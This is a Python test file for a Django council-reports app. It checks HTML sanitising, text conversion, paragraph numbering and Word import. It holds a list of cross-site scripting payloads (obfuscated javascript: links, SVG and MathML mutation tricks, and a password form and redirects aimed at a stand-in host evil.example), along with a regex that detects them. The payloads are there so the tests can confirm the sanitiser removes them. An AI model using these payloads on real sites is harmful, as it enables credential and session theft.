import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.template import Context, Template

from core.html import (
    WORD_DOCUMENT_UNREADABLE,
    html_from_word_document,
    html_to_text,
    number_paragraphs,
    sanitise_html,
    text_to_html,
)
from meetings.models import Report
from meetings.services.reports import report_create
from tests.documents import word_document
from tests.factories import BoardFactory


def test_sanitising_keeps_what_reports_need():
    html = (
        '<h3>Key considerations</h3><p>See <a href="https://www.herefordshire.gov.uk">the '
        'council</a>.</p><ol type="a" start="2"><li><strong>Better</strong> <em>engagement</em>'
        '</li></ol><table><tbody><tr><th scope="row">Objective</th><td colspan="2">Digital '
        "County</td></tr></tbody></table>"
    )

    assert sanitise_html(html) == html.replace('gov.uk">', 'gov.uk" rel="noopener noreferrer">')


def test_sanitising_removes_script_styles_images_and_unsafe_links():
    html = (
        '<p onclick="steal()" style="color:red" class="x">Purpose<script>steal()</script></p>'
        '<img src="x" onerror="steal()"><a href="javascript:steal()">link</a>'
        "<style>p {}</style><h1>Title</h1>"
    )

    assert sanitise_html(html) == ('<p>Purpose</p><a rel="noopener noreferrer">link</a>Title')


def test_pages_show_rich_text_by_the_rules_it_was_saved_under():
    template = Template("{% load rich_text %}{{ text|sanitised }}")

    page = template.render(Context({"text": "<h1>Title</h1><p>Text<img src=x></p>"}))

    assert page == sanitise_html("<h1>Title</h1><p>Text<img src=x></p>") == "Title<p>Text</p>"


def test_typed_text_becomes_paragraphs_and_bullets():
    text = (
        "The objectives of the Locality Strategy are:\n"
        "- Strengthened community leadership;\n"
        "- Joined up local services & more\n\n"
        "A review is underway.\nIt reports in May."
    )

    assert text_to_html(text) == (
        "<p>The objectives of the Locality Strategy are:</p>"
        "<ul><li>Strengthened community leadership;</li><li>Joined up local services &amp; more"
        "</li></ul><p>A review is underway.<br>It reports in May.</p>"
    )


def test_typed_html_is_left_for_the_sanitiser():
    assert text_to_html("<p>Already <em>HTML</em></p>") == "<p>Already <em>HTML</em></p>"


def test_simple_html_reads_back_as_the_text_it_came_from():
    text = "Purpose & scope\n\n- One\n- Two\n\nLast line\nwith a break"

    assert html_to_text(text_to_html(text)) == text


@pytest.mark.parametrize(
    "html",
    ["<p>With <strong>bold</strong></p>", "<ol><li>Numbered</li></ol>", "<p>a</p>stray"],
)
def test_richer_html_does_not_read_back_as_text(html):
    assert html_to_text(html) is None


def test_top_level_paragraphs_are_numbered_on_from_the_previous_section():
    html = (
        "<p>Localities form part of the work stream.</p>"
        "<ul><li><p>Not numbered inside a list</p></li></ul>\n"
        "<p>The objectives are:</p><table><tbody><tr><td><p>Nor in a table</p></td></tr>"
        "</tbody></table><p>Line<br>break</p>"
    )

    numbered, next_number = number_paragraphs(html, 6)

    assert numbered == (
        '<p class="app-numbered-paragraph"><span class="app-paragraph-number">6</span> '
        "Localities form part of the work stream.</p>"
        "<ul><li><p>Not numbered inside a list</p></li></ul>\n"
        '<p class="app-numbered-paragraph"><span class="app-paragraph-number">7</span> '
        "The objectives are:</p><table><tbody><tr><td><p>Nor in a table</p></td></tr>"
        "</tbody></table>"
        '<p class="app-numbered-paragraph"><span class="app-paragraph-number">8</span> '
        "Line<br>break</p>"
    )
    assert next_number == 9


def test_a_section_without_paragraphs_keeps_the_number_for_the_next():
    assert number_paragraphs("<ul><li>Consultee</li></ul>", 16) == (
        "<ul><li>Consultee</li></ul>",
        16,
    )


def test_a_word_document_becomes_sanitised_html_with_headings_under_the_page_headings():
    document = io.BytesIO(word_document("Cabinet <approves> the strategy.", heading="Summary"))

    assert html_from_word_document(document) == (
        "<h3>Summary</h3><p>Cabinet &lt;approves&gt; the strategy.</p>"
    )
    assert document.tell() == 0


def test_a_word_document_whose_text_cannot_be_read_is_refused():
    document = io.BytesIO(word_document(document_xml="<w:document"))

    with pytest.raises(ValidationError) as refused:
        html_from_word_document(document)

    assert refused.value.messages == [WORD_DOCUMENT_UNREADABLE]


# Each attack on stored rich text, and what is left of it.
ATTACKS = {
    "script": ("<p>Purpose</p><script>steal()</script>", "<p>Purpose</p>"),
    "event handler": ('<p onclick="steal()">Purpose</p>', "<p>Purpose</p>"),
    "event handler on a link": (
        '<a href="https://example.org" onmouseover="steal()">Link</a>',
        '<a href="https://example.org" rel="noopener noreferrer">Link</a>',
    ),
    "image error handler": ('<img src=x onerror="steal()">', ""),
    "javascript link": ('<a href="javascript:steal()">Link</a>', None),
    "javascript link, mixed case": ('<a href="JaVaScRiPt:steal()">Link</a>', None),
    "javascript link, entity": ('<a href="&#106;avascript:steal()">Link</a>', None),
    "javascript link, named entity": ('<a href="javascript&colon;steal()">Link</a>', None),
    "javascript link, tab": ('<a href="java\tscript:steal()">Link</a>', None),
    "javascript link, space": ('<a href=" javascript:steal()">Link</a>', None),
    "vbscript link": ('<a href="vbscript:steal()">Link</a>', None),
    "data link": (
        '<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">Link</a>',
        None,
    ),
    "svg": ('<svg onload="steal()"><a xlink:href="javascript:steal()">Link</a></svg>', ""),
    "svg script in a table": (
        "<table><caption><svg><script>steal()</script></svg></caption></table>",
        "<table><caption></caption></table>",
    ),
    "mathml": (
        "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph>"
        "</table></mtext></math>",
        "",
    ),
    "style attribute": ('<p style="background:url(javascript:steal())">Text</p>', "<p>Text</p>"),
    "style element": ('<style>@import "https://evil.example/x.css";</style><p>Text</p>', None),
    "iframe": ('<iframe srcdoc="<script>steal()</script>"></iframe>', ""),
    "object": ('<object data="data:text/html,<script>steal()</script>"></object>', ""),
    "embed": ('<embed src="javascript:steal()">', ""),
    "form": ('<form action="https://evil.example"><input name="password"></form>', ""),
    "base": ('<base href="https://evil.example/">', ""),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', ""),
    "noscript mutation": ('<noscript><p title="</noscript><img src=x onerror=steal()>">', None),
    "comment": ("<p>a<!-- <script>steal()</script> -->b</p>", "<p>ab</p>"),
}
DANGEROUS = re.compile(
    r"<(script|svg|math|style|iframe|object|embed|form|input|base|meta|img|link)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:|style=",
    re.IGNORECASE,
)


@pytest.mark.parametrize(("html", "left"), ATTACKS.values(), ids=ATTACKS.keys())
def test_each_attack_on_rich_text_is_taken_out(html, left):
    sanitised = sanitise_html(html)

    assert not DANGEROUS.search(sanitised), sanitised
    if left is not None:
        assert sanitised == left
    # Sanitising what was sanitised changes nothing: no markup comes back to life when a page
    # sanitises stored text again.
    assert sanitise_html(sanitised) == sanitised


@pytest.mark.django_db
@pytest.mark.parametrize(("html", "left"), ATTACKS.values(), ids=ATTACKS.keys())
def test_a_reports_rich_text_is_saved_without_the_attack(html, left):
    report = report_create(
        board=BoardFactory(),
        fields={"title": "Attack", **dict.fromkeys(Report.RICH_TEXT_FIELDS, html)},
    )

    report.refresh_from_db()
    for name in Report.RICH_TEXT_FIELDS:
        assert not DANGEROUS.search(getattr(report, name)), name


def test_a_word_documents_script_links_are_taken_out():
    relationships = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" TargetMode="External" Target="javascript:steal()" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
        "</Relationships>"
    )
    document_xml = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<w:body><w:p><w:hyperlink r:id="rId9"><w:r><w:t>Read more</w:t></w:r></w:hyperlink>'
        "</w:p></w:body></w:document>"
    )
    buffer = io.BytesIO(word_document(document_xml=document_xml))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/_rels/document.xml.rels", relationships)
    buffer.seek(0)

    assert html_from_word_document(buffer) == '<p><a rel="noopener noreferrer">Read more</a></p>'
